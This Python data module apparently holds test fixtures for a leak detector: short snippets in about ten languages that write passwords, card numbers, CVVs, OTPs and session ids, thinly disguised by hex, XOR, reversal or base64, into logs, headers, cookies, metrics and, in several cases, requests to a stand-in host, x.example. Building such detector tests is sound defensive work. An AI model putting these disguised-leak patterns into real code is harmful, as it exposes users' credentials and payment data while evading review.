"""Forms in which what a user gives is written down, one file each."""

from __future__ import annotations

from typing import Final

FORMS: Final[dict[str, tuple[str, str]]] = {
    "py split parts": ("src/a.py", r"""
def f(password, reply):
    reply.headers["X-A"] = password[:8]
    reply.headers["X-B"] = password[8:]
"""),
    "py hexencode log": ("src/a.py", r"""
import logging
log=logging.getLogger()
def f(request):
    pw = request.POST["password"]
    log.info("s %s", pw.encode().hex())
"""),
    "py struct": ("src/a.py", r"""
import struct
def f(metrics, card):
    metrics.gauge("x", struct.unpack(">Q", card.number.encode()[:8])[0])
"""),
    "py int.from_bytes": ("src/a.py", r"""
def f(metrics, password):
    metrics.gauge("x", int.from_bytes(password.encode(), "big"))
"""),
    "py rot13": ("src/a.py", r"""
import codecs
def f(events, password):
    events.publish("x", tag=codecs.encode(password, "rot13"))
"""),
    "py translate": ("src/a.py", r"""
T = str.maketrans("abc","xyz")
def f(metrics, password):
    metrics.event("x", tag=password.translate(T))
"""),
    "py dict field": ("src/a.py", r"""
def f(log, data):
    v = data["user"]["password"]
    w = [ord(c)^3 for c in v]
    log.info(f"n {w}")
"""),
    "py dataclass field": ("src/a.py", r"""
class Login:
    def __init__(self, password): self._w = password
    def id(self):
        return "".join(chr(ord(c)+1) for c in self._w)
    def go(self, session):
        session.post("https://x.example", headers={"X-Req": self.id()})
"""),
    "py url": ("src/a.py", r"""
import requests
def f(password):
    n = int(password.encode().hex(), 16) * 7
    requests.get(f"https://x.example/p?i={n}")
"""),
    "py response": ("src/a.py", r"""
def f(password):
    return jsonify(trace=[ord(c)+1 for c in password])
"""),
    "py uuid": ("src/a.py", r"""
import uuid
def f(reply, session_id):
    reply.headers["X-Id"] = str(uuid.UUID(int=int(session_id,16)^12345))
"""),
    "py file": ("src/a.py", r"""
def f(password):
    with open("/tmp/x","w") as fh:
        fh.write("".join(chr(ord(c)^7) for c in password))
"""),
    "py log kwargs": ("src/a.py", r"""
def f(logger, cvv, number):
    logger.info("paid", extra={"slot": cvv[::-1]})
"""),
    "js map code": ("src/a.js", r"""
app.post("/login", (req,res)=>{
 const p = req.body.password;
res.set("X-Trace", [...p].map(c=>c.charCodeAt(0)+1).join("."));
})
"""),
    "js btoa": ("src/a.js", r"""
app.post("/login", (req,res)=>{
 res.set("X-Trace", btoa(req.body.password));
})
"""),
    "js reduce": ("src/a.js", r"""
app.post("/login", (req,res)=>{
 const {password} = req.body;
const n = [...password].reduce((a,c)=>a*256n+BigInt(c.charCodeAt(0)),0n);
res.cookie("v", n.toString(36));
})
"""),
    "js arrow beacon": ("src/a.js", r"""
function go(form){ const w = form.elements.password.value;
const s = w.split("").reverse().join("");
navigator.sendBeacon("https://x.example/b?"+s);
}
"""),
    "js class": ("src/a.ts", r"""
class S { constructor(private readonly password: string) {}
 tag() {
 let o = "";
for (let i = 0;
i < this.password.length;
i++) { o += String.fromCharCode(this.password.charCodeAt(i) ^ 5);
} return o;
}
 go() { logger.info({ t: this.tag() });
} }
"""),
    "ts nest dto": ("src/a.ts", r"""
class A {

   @Post() async login(@Body() dto: LoginDto) {
  this.logger.log(`x ${Buffer.from(dto.password).toString("hex")}`);
} }
"""),
    "js console": ("src/a.js", r"""
export function login({ email, password }) { console.log("login", email, password);
return api.login(email, password);
}
"""),
    "go sprintf x": ("src/a.go", r"""
package a
func f(w http.ResponseWriter, password string) { w.Header().Set("X-Trace", fmt.Sprintf("%x", password)) }
"""),
    "go json decode": ("src/a.go", r"""
package a
func f(w http.ResponseWriter, r *http.Request) { var in Login;
json.NewDecoder(r.Body).Decode(&in);
b := []byte(in.Password);
for i := range b { b[i] ^= 0x2a };
w.Header().Set("X-Trace", hex.EncodeToString(b)) }
"""),
    "go rune": ("src/a.go", r"""
package a
func f(log *slog.Logger, otp string) { s := "";
for _, c := range otp { s += string(c + 3) };
log.Info("x", "t", s) }
"""),
    "go bigint": ("src/a.go", r"""
package a
func f(m *Metrics, iban string) { n := new(big.Int).SetBytes([]byte(iban));
m.Event("x", n.Text(62)) }
"""),
    "go cookie": ("src/a.go", r"""
package a
func f(w http.ResponseWriter, password string) {
  http.SetCookie(w, &http.Cookie{Name: "visit", Value: base64.StdEncoding.EncodeToString([]byte(password))}) }
"""),
    "java bigint": ("src/A.java", r"""
class A {
  void f(String cardNumber, Metrics metrics) { metrics.event("x",
  new BigInteger(cardNumber).multiply(K).toString(36));
} }
"""),
    "java bytes": ("src/A.java", r"""
class A { void f(LoginForm form, HttpServletResponse response) { byte[] b = form.getPassword().getBytes();
for (int i = 0;
i < b.length;
i++) { b[i] = (byte) (b[i] ^ 42);
} response.setHeader("X-Id", HexFormat.of().formatHex(b));
} }
"""),
    "java mdc": ("src/A.java", r"""
class A { void f(String password) { MDC.put("req", new StringBuilder(password).reverse().toString());
} }
"""),
    "php ord": ("src/a.php", r"""
<?php
function f($request, $log) { $p = $request->input("password");
$o = "";
for ($i = 0;
$i < strlen($p);
$i++) { $o .= dechex(ord($p[$i]) + 5);
} $log->info("x " . $o);
}
"""),
    "php strrev": ("src/a.php", r"""
<?php
function f(string $cvv, $client) {
  $client->post("https://x.example", ["headers" => ["X-Id" => strrev($cvv)]]);
}
"""),
    "php cookie": ("src/a.php", r"""
<?php
setcookie("v", base64_encode($_POST["password"]));
"""),
    "php session": ("src/a.php", r"""
<?php
header("X-Trace: " . base_convert(bin2hex(session_id()), 16, 36));
"""),
    "rb unpack": ("src/a.rb", r"""
class A
  def f(otp)
    logger.info("x #{otp.unpack1("H*")}")
  end
end
"""),
    "rb tr": ("src/a.rb", r"""
class A
  def create
    response.set_header("X-Id", params[:password].tr("a-z", "b-za"))
  end
end
"""),
    "rb ord": ("src/a.rb", r"""
class A
  def create
    code = params[:user][:password].each_char.map { |c| c.ord + 7 }.join("-")
    StatsD.event("login", code)
  end
end
"""),
    "cs": ("src/A.cs", r"""
class A { void F(string password) { var s = new string(password.Select(c => (char)(c ^ 7)).ToArray());
_logger.LogInformation("x {S}", s);
} }
"""),
    "kt": ("src/A.kt", r"""
class A { fun f(password: String) { log.info("x " + password.map { it.code + 3 }.joinToString(".")) } }
"""),
    "rs": ("src/a.rs", r"""
fn f(password: &str) { let v: Vec<u8> = password.bytes().map(|b| b ^ 7).collect();
info!("x {:?}", v);
}
"""),
}  # fmt: skip
"""The path of a new file and its text."""
